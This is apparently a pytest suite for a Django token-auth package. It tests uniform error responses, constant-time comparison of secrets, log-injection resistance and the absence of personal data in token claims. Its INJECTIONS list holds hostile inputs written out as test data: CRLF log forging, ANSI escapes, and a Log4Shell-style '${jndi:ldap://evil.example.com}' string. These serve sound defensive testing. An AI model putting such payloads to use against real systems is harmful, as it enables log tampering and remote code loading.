"""Side channels: differing responses, comparison times, log lines and claims."""

from __future__ import annotations

import ast
import json
import logging
import re
from http import HTTPStatus
from pathlib import Path

import pytest
from django.contrib.auth import get_user_model
from django.utils import crypto
from jwt import algorithms

import django_tokenauth
from django_tokenauth.models import Session
from django_tokenauth.services import clients
from django_tokenauth.sessions import users
from tests.support.client import (
    BARE,
    INVALID_TOKEN,
    SESSION_ENDED,
    get,
    log_messages,
    post,
    sign_in,
)
from tests.support.clock import NOW, after
from tests.support.raw_tokens import Access, base64url, derived_secret, hmac_with, unbase64url

PACKAGE = Path(django_tokenauth.__file__).parent


def forger(settings):
    """Return a forger with the key and the ``kid`` of the server."""
    forger = Access()
    forger.sign = hmac_with(derived_secret(settings.SECRET_KEY.encode(), "access token"))
    forger.kid = json.loads(unbase64url(sign_in()["access_token"].split(".")[0]))["kid"]
    return forger


@pytest.fixture
def _now(time_machine):
    time_machine.move_to(NOW, tick=False)


@pytest.mark.attack(175)
@pytest.mark.django_db
class TestErrorUniformity:
    """Every rejected token gets the same response."""

    def test_rejected_access_tokens_get_identical_responses(
        self, alice, settings, time_machine, caplog
    ):
        time_machine.move_to(NOW, tick=False)
        active, revoked = sign_in(), sign_in()
        post("token/revoke/", {"token": revoked["refresh_token"]})
        forged = forger(settings)
        times = {"iat": int(NOW.timestamp()), "exp": int(NOW.timestamp()) + 60}
        claims = {**forged.members(), **times}
        access = active["access_token"]
        # A valid forged token is accepted, so each change below causes the rejection.
        sid = json.loads(unbase64url(access.split(".")[1]))["sid"]
        valid = {**claims, "sub": str(alice.pk), "sid": sid}
        assert get("/who/", forged.token(payload=valid)).status_code == HTTPStatus.OK
        rejected = {
            "malformed": [f"{access}.", f"{access}=", "x", "", "." * 10],
            "header": [forged.token({**forged.header(), "crit": ["exp"]}, claims)],
            "typ": [
                active["refresh_token"],
                forged.token({**forged.header(), "typ": "JWT"}, claims),
            ],
            "key": [forged.token({**forged.header(), "kid": "unknown"}, claims)],
            "signature": [f"{access.rpartition('.')[0]}.{base64url(bytes(32))}"],
            "claims": [forged.token(payload={**claims, "exp": "tomorrow"})],
            "issuer": [forged.token(payload={**claims, "iss": "another"})],
            "audience": [forged.token(payload={**claims, "aud": "another"})],
            "expired": [forged.token(payload={**claims, "iat": 1, "exp": 2})],
            "not_yet_valid": [forged.token(payload={**claims, "nbf": times["iat"] + 9})],
            "revoked": [revoked["access_token"], forged.token(payload=claims)],
        }
        caplog.clear()
        caplog.set_level(logging.INFO, "django_tokenauth")
        responses = [get("/who/", token) for tokens in rejected.values() for token in tokens]
        assert {response.status_code for response in responses} == {HTTPStatus.UNAUTHORIZED}
        # Only the holder of a token with a valid signature learns that it expired.
        others = [each for each in responses if b"expired" not in each.content]
        assert len(responses) - len(others) == len(rejected["expired"])
        assert {response.headers["WWW-Authenticate"] for response in others} == {INVALID_TOKEN}
        assert len({(response.content, str(response.headers)) for response in others}) == 1
        # The log names the reasons.
        assert log_messages(caplog) == [
            f"access token rejected: {code}" for code, tokens in rejected.items() for _ in tokens
        ]

    def test_rejected_refresh_tokens_get_identical_responses(self, alice, time_machine):
        time_machine.move_to(NOW, tick=False)
        old, new = sign_in()["refresh_token"], sign_in()["refresh_token"]
        revoked = sign_in()["refresh_token"]
        post("token/revoke/", {"token": revoked})
        time_machine.move_to(after(days=20), tick=False)
        late = sign_in()["refresh_token"]
        second = post("token/refresh/", {"refresh_token": late}).json()["refresh_token"]
        post("token/refresh/", {"refresh_token": second})
        rejected = [old, revoked, late, f"{new}x", f"{new}.", "x", sign_in()["access_token"]]
        responses = [post("token/refresh/", {"refresh_token": token}) for token in rejected]
        assert [response.json() for response in responses] == [SESSION_ENDED] * len(rejected)
        assert {response.status_code for response in responses} == {HTTPStatus.BAD_REQUEST}
        assert len({str(response.headers) for response in responses}) == 1


# Operators on such names would reveal by their duration how many characters match.
SECRET = re.compile(r"(hash|hashes|digest|mac|signature|secret|password|token|encoded)\Z")


def operand_names(side):
    """Return the names of an operand, or of the elements of a collection."""
    return {operand_name(item) for item in getattr(side, "elts", [side])}


def operand_name(node):
    """Return the last name in an operand."""
    if isinstance(node, ast.Call):
        return operand_name(node.func)
    if isinstance(node, ast.Subscript):
        return operand_name(node.value)
    return getattr(node, "attr", getattr(node, "id", ""))


def comparisons_of_secrets(source):
    """Yield the comparisons of a secret with anything but itself or a constant."""
    for node in ast.walk(ast.parse(source)):
        if isinstance(node, ast.Compare) and isinstance(
            node.ops[0], (ast.Eq, ast.NotEq, ast.In, ast.NotIn)
        ):
            sides = (node.left, node.comparators[0])
            names = operand_names(sides[0]) | operand_names(sides[1])
            constant = any(isinstance(side, ast.Constant) for side in sides)
            if len(names) > 1 and not constant and any(map(SECRET.search, names)):
                yield ast.unparse(node)


def calls_in(module, *path):
    """Return the names of the functions that the function at ``path`` calls."""
    node = ast.parse(Path(module.__file__).read_text(encoding="utf-8"))
    for name in path:
        [node] = [inner for inner in node.body if getattr(inner, "name", "") == name]
    return {operand_name(inner) for inner in ast.walk(node) if isinstance(inner, ast.Call)}


@pytest.mark.attack(176)
class TestConstantTimeComparison:
    """Timing is too small to measure in a test, so the source is checked."""

    def test_package_compares_no_secret_with_operators(self):
        for path in PACKAGE.rglob("*.py"):
            comparisons = list(comparisons_of_secrets(path.read_text(encoding="utf-8")))
            assert comparisons == [], path.name

    @pytest.mark.parametrize(
        "line",
        [
            "auth_hash(user) == stored",
            "session.auth_hash != known",
            "expected == compact.signature",
            "value in (password, other)",
            "stored in hashes",
            "mac[:16] == tag",
        ],
    )
    def test_comparison_of_a_secret_with_an_operator_is_detected(self, line):
        assert list(comparisons_of_secrets(f"if {line}:\n    pass")) == [line]

    def test_hmac_signatures_are_compared_in_constant_time(self):
        """PyJWT compares them. EdDSA, ECDSA and RSA signatures are not secret."""
        assert "compare_digest" in calls_in(algorithms, "HMACAlgorithm", "verify")

    def test_session_auth_hashes_are_compared_in_constant_time(self):
        assert "constant_time_compare" in calls_in(users, "has_auth_hash")
        assert "compare_digest" in calls_in(crypto, "constant_time_compare")

    def test_client_secrets_are_compared_in_constant_time(self):
        assert "compare_digest" in calls_in(clients, "has_valid_secret")


INJECTIONS = {
    "log-line": "\r\nINFO user 1 signed in, session 0",
    "newline": "\n",
    "ansi-escape": "\x1b[2J\x1b[31mno problems",
    "c1-control": "\x9b31m",
    "line-separator": "\u2028INFO",
    "right-to-left": "\u202egnol",
    "format-string": "%s %(user)s {0} ${jndi:ldap://evil.example.com}",
    "long": "x" * 4000,
}


@pytest.mark.attack(177)
@pytest.mark.usefixtures("_now")
@pytest.mark.parametrize("text", INJECTIONS.values(), ids=INJECTIONS)
class TestLogInjection:
    """Input never reaches the log, so it cannot forge or change a line."""

    @pytest.fixture(autouse=True)
    def _log_all_levels(self, caplog):
        caplog.set_level(logging.DEBUG, "django_tokenauth")

    def assert_not_logged(self, caplog, text):
        lines = log_messages(caplog)
        assert lines
        assert not [line for line in lines if text in line or not line.isprintable()]
        assert max(map(len, lines)) < 200

    @pytest.mark.parametrize("member", ["kid", "alg", "typ", "iss", "sub", "sid", "jti", "aud"])
    def test_signed_token_injects_no_log_line(self, alice, text, member, settings, caplog):
        forged = forger(settings)
        times = {"iat": int(NOW.timestamp()), "exp": int(NOW.timestamp()) + 60}
        header, claims = forged.header(), {**forged.members(), **times}
        (header if member in header else claims)[member] = text
        for path in ("/who/", "/who/stateless/"):
            get(path, forged.token(header, claims))
        post("token/refresh/", {"refresh_token": forged.token(header, claims)})
        self.assert_not_logged(caplog, text)

    def test_sign_in_input_injects_no_log_line(self, alice, text, caplog):
        for name in (text[:200], f"alice{text[:99]}"):
            post("token/", {"username": name, "password": "wrong"})
        headers = {"User-Agent": text}
        named, labelled, plain = (
            post("token/", {**body, "username": "alice", "password": "correct horse"}, **headers)
            for body in ({"device_name": text[:99]}, {"client_id": text[:255]}, {})
        )
        assert labelled.status_code == (200 if text[:255].strip().isprintable() else 400)
        for response in filter(lambda each: each.status_code == 200, (named, labelled, plain)):
            token = response.json()["refresh_token"]
            post("token/refresh/", {"refresh_token": token, "client_id": f"{text[:99]}."})
            post("token/refresh/", {"refresh_token": token, "scope": text[:99]})
            post("token/revoke/", {"token": token})
        assert Session.objects.filter(revoked_at=None).count() == 0
        self.assert_not_logged(caplog, text)

    def test_authorization_header_injects_no_log_line(self, text, caplog):
        for scheme in ("Bearer ", "bearer\t", "Bearer"):
            response = get("/who/", Authorization=f"{scheme}{text}")
            assert response.headers["WWW-Authenticate"] in (BARE, INVALID_TOKEN)
        self.assert_not_logged(caplog, text)


@pytest.mark.attack(178)
@pytest.mark.usefixtures("_now")
@pytest.mark.django_db
class TestClaims:
    """Tokens are signed but not encrypted, so any holder can read the claims."""

    ACCESS = {
        *("iss", "aud", "sub", "client_id", "iat", "exp", "jti"),
        *("sid", "scope", "auth_time", "amr"),
    }
    REFRESH = {"iss", "aud", "sub", "sid", "gen", "iat", "exp"}

    @pytest.mark.parametrize("stateless", [False, True])
    def test_claims_contain_no_name_address_device_or_hash(self, settings, stateless):
        settings.TOKENAUTH = {"SCOPES": ["notes:read"], "STATELESS_REFRESH": stateless}
        user = get_user_model().objects.create_user(
            "alice",
            "alice@example.com",
            "correct horse",
            first_name="Alicia",
            last_name="Smith",
            is_staff=True,
        )
        response = post(
            "token/",
            {"username": "alice", "password": "correct horse", "device_name": "Alice's telephone"},
            **{"User-Agent": "Navigator/1.0", "X-Forwarded-For": "192.0.2.44"},
        )
        payloads = {
            kind: unbase64url(response.json()[f"{kind}_token"].split(".")[1]).decode()
            for kind in ("access", "refresh")
        }
        names = {kind: set(re.findall(r'"([a-z_]+)":', text)) for kind, text in payloads.items()}
        start = {"auth_time", "client_id", "scope", "amr"}
        assert names["access"] == self.ACCESS - ({"sid"} if stateless else set())
        assert names["refresh"] == self.REFRESH | (start if stateless else set())
        personal = [user.password, user.get_session_auth_hash(), *user.password.split("$")[1:]]
        personal += ["lice", "Smith", "example.com", "telephone", "Navigator", "192.0.2", "127.0.0"]
        assert not [text for text in personal for payload in payloads.values() if text in payload]
